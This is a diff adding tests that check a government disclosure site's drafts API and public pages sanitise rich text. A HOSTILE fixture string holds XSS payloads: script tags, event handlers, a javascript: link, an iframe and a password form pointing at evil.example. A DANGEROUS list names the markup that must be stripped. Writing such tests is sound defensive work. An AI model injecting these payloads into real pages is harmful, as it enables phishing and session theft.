@@ -63,3 +63,71 @@ def test_the_cache_never_stores_html(public_cache):
     html(RequestFactory().get("/api/v2/entries/"))
     json_view = PublicAPICacheMiddleware(lambda r: HttpResponse(b"{}", content_type="application/json"))
     assert json_view(RequestFactory().get("/api/v2/entries/")).content == b"{}"
+
+
+# -- finding 5: rich text is sanitised on every write of the drafts API, and on public output ----
+
+HOSTILE = (
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
+    '<p onclick="steal()">预算<b>说明</b><i>附</i></p>'
+    '<img src="x" onerror="alert(1)">'
+    "<script>alert(2)</script><style>body{display:none}</style>"
+    '<iframe src="https://evil.example/"></iframe>'
+    '<a href="javascript:alert(3)">点我</a>'
+    '<a href="https://www.gov.cn/" target="_blank" onmouseover="x()">中国政府网</a>'
+    '<a linktype="page" id="3">内部链接</a>'
+    '<h2 style="color:red">标题</h2><ul><li>一</li></ul><hr>'
+    '<embed embedtype="image" id="1" format="left" alt="图" onload="x()">'
+    '<form action="https://evil.example/"><input name="pw"></form>'
+)
+DANGEROUS = ["<meta", "onclick", "onerror", "<img", "<script", "alert(2)", "<style", "<iframe", "javascript:"]
+DANGEROUS += ["target=", "onmouseover", "style=", "onload", "<form", "<input"]
+KEPT = ["<p>预算<b>说明</b><i>附</i></p>", '<a href="https://www.gov.cn/">中国政府网</a>', "<h2>标题</h2>"]
+KEPT += ['<a linktype="page" id="3">内部链接</a>', "<ul><li>一</li></ul>", "<hr>", 'embedtype="image"']
+
+
+def assert_sanitised(html):
+    for needle in DANGEROUS:
+        assert needle not in html, (needle, html)
+    for needle in KEPT:
+        assert needle in html, (needle, html)
+
+
+def test_drafts_api_stores_only_sanitised_rich_text(catalog, users):
+    api = APIClient()
+    api.force_authenticate(users["finance_editor"])
+    created = api.post(
+        "/api/v2/drafts/", {"parent": catalog["budget"].pk, "title": "含有害标记的草稿", "body": HOSTILE}, format="json"
+    )
+    assert created.status_code == 201, created.json()
+    entry = DisclosureEntry.objects.get(pk=created.json()["id"])
+    assert_sanitised(entry.body)
+    assert_sanitised(entry.get_latest_revision_as_object().body)
+    assert_sanitised(created.json()["body"])
+
+    patched = api.patch(f"/api/v2/drafts/{entry.pk}/", {"body": HOSTILE + "<p>修改</p>"}, format="json")
+    assert patched.status_code == 200, patched.json()
+    revision_body = DisclosureEntry.objects.get(pk=entry.pk).get_latest_revision_as_object().body
+    assert_sanitised(revision_body) and "<p>修改</p>" in revision_body
+    assert_sanitised(api.get(f"/api/v2/drafts/{entry.pk}/").json()["body"])
+
+
+def test_old_unsanitised_bodies_are_sanitised_on_public_output(published, client):
+    # Stored before this fix (no signal, no revision): the public API and page still serve it clean.
+    DisclosureEntry.objects.filter(pk=published.pk).update(body=HOSTILE)
+    body = APIClient().get(f"/api/v2/entries/{published.pk}/").json()["body"]
+    assert_sanitised(body)
+    page = client.get(published.url).content.decode()
+    article = page.split("<article>", 1)[1].split("</article>", 1)[0]
+    for needle in DANGEROUS:
+        assert needle not in article, needle
+    assert "中国政府网" in article and "<h2>标题</h2>" in article
+
+
+def test_tables_the_system_writes_survive_public_output(published):
+    table = (
+        '<h2>二、主动公开政府信息情况</h2><table class="annual-table"><tr><th colspan="2">信息内容</th></tr></table>'
+    )
+    DisclosureEntry.objects.filter(pk=published.pk).update(body=table)
+    body = APIClient().get(f"/api/v2/entries/{published.pk}/").json()["body"]
+    assert '<table class="annual-table">' in body and '<th colspan="2">信息内容</th>' in body
